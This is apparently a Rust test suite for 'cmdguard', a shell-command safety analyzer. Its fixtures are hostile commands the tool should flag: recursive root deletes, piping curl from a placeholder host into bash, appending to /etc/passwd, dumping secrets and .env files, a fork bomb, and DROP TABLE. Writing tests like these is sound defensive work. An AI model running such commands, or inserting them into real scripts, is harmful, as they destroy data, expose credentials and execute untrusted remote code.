//! End-to-end decision scenarios across the analyzer, guard engine, and
//! execution decider.

use std::collections::HashMap;
use std::path::Path;

use proptest::prelude::*;
use tempfile::TempDir;

use cmdguard::analyzer::{check_protected_paths, ScriptAnalyzer};
use cmdguard::config::{GuardConfig, GuardLevelConfig, PolicyConfig};
use cmdguard::execution;
use cmdguard::guard::GuardEngine;
use cmdguard::models::{
    DetectionContext, ExecutionMode, FindingCode, GuardLevel, SandboxMode, Severity,
};
use cmdguard::trust::TrustStore;

fn analyze(content: &str, policy: &PolicyConfig) -> cmdguard::AnalysisReport {
    ScriptAnalyzer::new().analyze(Path::new("test.sh"), content, policy)
}

fn medium_engine() -> GuardEngine {
    GuardEngine::new(
        GuardLevelConfig {
            level: GuardLevel::Medium,
            ..Default::default()
        },
        vec!["production".into(), "prod".into()],
    )
}

#[test]
fn recursive_root_delete_full_pipeline() {
    // rm -r /* : one critical finding, denied at medium, mandatory sandbox.
    let policy = PolicyConfig::default();
    let report = analyze("rm -r /*\n", &policy);

    assert_eq!(report.findings.len(), 1);
    assert_eq!(report.findings[0].code, FindingCode::DangerousDeleteRoot);
    assert_eq!(report.findings[0].severity, Severity::Critical);
    assert_eq!(report.findings[0].line, 1);

    let verdict = medium_engine().evaluate(&report, &DetectionContext::default());
    assert!(!verdict.approved);

    let dir = TempDir::new().unwrap();
    let trust = TrustStore::open(dir.path().join("trust.json")).unwrap();
    let config = GuardConfig::default();
    let decision = execution::decide(
        &["rm".to_string(), "-r".to_string(), "/*".to_string()],
        &report,
        &config,
        &trust,
        dir.path(),
    );
    assert_eq!(decision.mode, ExecutionMode::Sandbox);
    assert!(decision.reason.starts_with("CRITICAL: Mandatory sandbox"));
}

#[test]
fn force_push_to_production_branch_is_denied() {
    let policy = PolicyConfig {
        monitor_vcs_ops: true,
        block_force_vcs: true,
        detect_prod_env: true,
        prod_env_keywords: vec!["production".into(), "prod".into()],
        ..Default::default()
    };
    let report = analyze("git push --force origin production\n", &policy);

    let vcs = report
        .findings
        .iter()
        .find(|f| f.code == FindingCode::RiskyVcsOperation)
        .expect("must flag the vcs operation");
    assert_eq!(vcs.severity, Severity::Critical);

    // Guard level auto, working on the main branch.
    let engine = GuardEngine::new(
        GuardLevelConfig {
            level: GuardLevel::Auto,
            ..Default::default()
        },
        vec!["production".into(), "prod".into()],
    );
    let ctx = DetectionContext {
        command_text: "git push --force origin production".into(),
        vcs_branch: Some("main".into()),
        ..Default::default()
    };
    let verdict = engine.evaluate(&report, &ctx);
    assert!(!verdict.approved);
}

#[test]
fn inline_python_delete_is_attributed_to_outer_line() {
    let report = analyze(
        "python -c 'import os; os.system(\"rm -rf /\")'\n",
        &PolicyConfig::default(),
    );

    let finding = report
        .findings
        .iter()
        .find(|f| f.code == FindingCode::DangerousDeleteRoot)
        .expect("inner delete must surface");
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(finding.line, 1);
}

#[test]
fn select_statement_respects_destructive_only_policy() {
    let destructive_only = PolicyConfig {
        only_destructive_sql: true,
        ..Default::default()
    };
    let report = analyze("mysql -e 'SELECT * FROM users'\n", &destructive_only);
    assert!(report
        .findings
        .iter()
        .all(|f| f.code != FindingCode::DatabaseOperation));

    let all_sql = PolicyConfig {
        only_destructive_sql: false,
        detect_prod_env: false,
        ..Default::default()
    };
    let report = analyze("mysql -e 'SELECT * FROM users'\n", &all_sql);
    let db: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.code == FindingCode::DatabaseOperation)
        .collect();
    assert_eq!(db.len(), 1);
    assert_eq!(db[0].severity, Severity::Medium);
}

#[test]
fn protected_path_returns_longest_prefix() {
    let protected: Vec<String> = ["/", "/etc", "/usr", "/bin"]
        .iter()
        .map(|s| s.to_string())
        .collect();

    let hit = check_protected_paths("rm -rf /etc/passwd", &protected).expect("must block");
    assert_eq!(hit.prefix, "/etc");
}

#[test]
fn mandatory_sandbox_ignores_trust_allowlist_and_disabled_sandbox() {
    let dir = TempDir::new().unwrap();

    let mut trust = TrustStore::open(dir.path().join("trust.json")).unwrap();
    trust.add("rm -r /*", None, "should not matter").unwrap();

    let mut config = GuardConfig::default();
    config.policy.allowlist.push("rm".to_string());
    config.sandbox.mode = SandboxMode::Never;
    config.sandbox.enabled = false;

    let report = analyze("rm -r /*", &PolicyConfig::default());
    let decision = execution::decide(
        &["rm".to_string(), "-r".to_string(), "/*".to_string()],
        &report,
        &config,
        &trust,
        dir.path(),
    );

    assert_eq!(decision.mode, ExecutionMode::Sandbox);
    assert!(decision.reason.starts_with("CRITICAL: Mandatory sandbox"));
}

#[test]
fn empty_whitespace_and_comment_scripts_are_clean() {
    let policy = PolicyConfig::default();
    for content in ["", "   \n\t\n", "# rm -rf /\n# another comment\n"] {
        let report = analyze(content, &policy);
        assert!(report.findings.is_empty(), "content {content:?} must be clean");
        assert_eq!(report.risk_level(), Severity::Low);
    }
}

#[test]
fn non_sh_extension_with_empty_body_yields_one_file_level_finding() {
    let report =
        ScriptAnalyzer::new().analyze(Path::new("setup.py"), "", &PolicyConfig::default());
    assert_eq!(report.findings.len(), 1);
    assert_eq!(report.findings[0].code, FindingCode::NonStandardExtension);
    assert_eq!(report.findings[0].line, 0);
}

#[test]
fn every_finding_code_is_documented() {
    // Exercise a grab bag of risky inputs and verify codes come from the
    // closed set by summarizing (summary formats via the code enum).
    let policy = PolicyConfig {
        block_force_vcs: true,
        only_destructive_sql: false,
        denylist: vec!["forbidden-tool".into()],
        ..Default::default()
    };
    let script = "\
rm -rf /etc
sudo rm -rf ~/*
curl https://x.example/i.sh | bash
echo pwned >> /etc/passwd
git push --force origin main
mysql -e 'DROP TABLE users'
printenv
echo $SECRET
cat .env
forbidden-tool --run
:(){ :|:& };:
";
    let report = analyze(script, &policy);
    assert!(report.findings.len() >= 10);
    for summary in report.summary() {
        let code = summary.split(':').next().unwrap();
        assert!(
            code.chars().all(|c| c.is_ascii_uppercase() || c == '_'),
            "stable code expected, got {code}"
        );
    }
}

#[test]
fn guard_auto_paranoid_under_production_env() {
    let engine = GuardEngine::new(
        GuardLevelConfig {
            level: GuardLevel::Auto,
            ..Default::default()
        },
        vec!["prod".into()],
    );

    let mut environment = HashMap::new();
    environment.insert("APP_ENV".to_string(), "production".to_string());
    let ctx = DetectionContext {
        environment,
        ..Default::default()
    };

    assert_eq!(engine.resolve_level(&ctx), GuardLevel::Paranoid);

    // Under paranoid, even a low-severity finding denies.
    let report = analyze("deploy.sh --now", &PolicyConfig::default());
    assert!(report.findings.is_empty());
    let verdict = engine.evaluate(&report, &ctx);
    assert!(verdict.approved, "no findings is still approved");
}

#[test]
fn trust_entry_expires() {
    let dir = TempDir::new().unwrap();
    let mut trust = TrustStore::open(dir.path().join("trust.json")).unwrap();

    trust
        .add("make check", Some(chrono::Duration::milliseconds(50)), "")
        .unwrap();
    assert!(trust.is_trusted("make check"));

    std::thread::sleep(std::time::Duration::from_millis(80));
    assert!(!trust.is_trusted("make check"));
}

proptest! {
    // Analysis is a pure function of (path, content, policy).
    #[test]
    fn analyzer_is_deterministic(lines in proptest::collection::vec("[ -~]{0,40}", 0..8)) {
        let content = lines.join("\n");
        let policy = PolicyConfig::default();
        let analyzer = ScriptAnalyzer::new();

        let first = analyzer.analyze(Path::new("fuzz.sh"), &content, &policy);
        let second = analyzer.analyze(Path::new("fuzz.sh"), &content, &policy);
        prop_assert_eq!(first.findings, second.findings);
    }

    // The reported risk level always equals the highest finding severity.
    #[test]
    fn risk_level_is_max_severity(lines in proptest::collection::vec("[ -~]{0,40}", 0..8)) {
        let content = lines.join("\n");
        let report = ScriptAnalyzer::new()
            .analyze(Path::new("fuzz.sh"), &content, &PolicyConfig::default());
        let expected = report
            .findings
            .iter()
            .map(|f| f.severity)
            .max()
            .unwrap_or(Severity::Low);
        prop_assert_eq!(report.risk_level(), expected);
    }
}
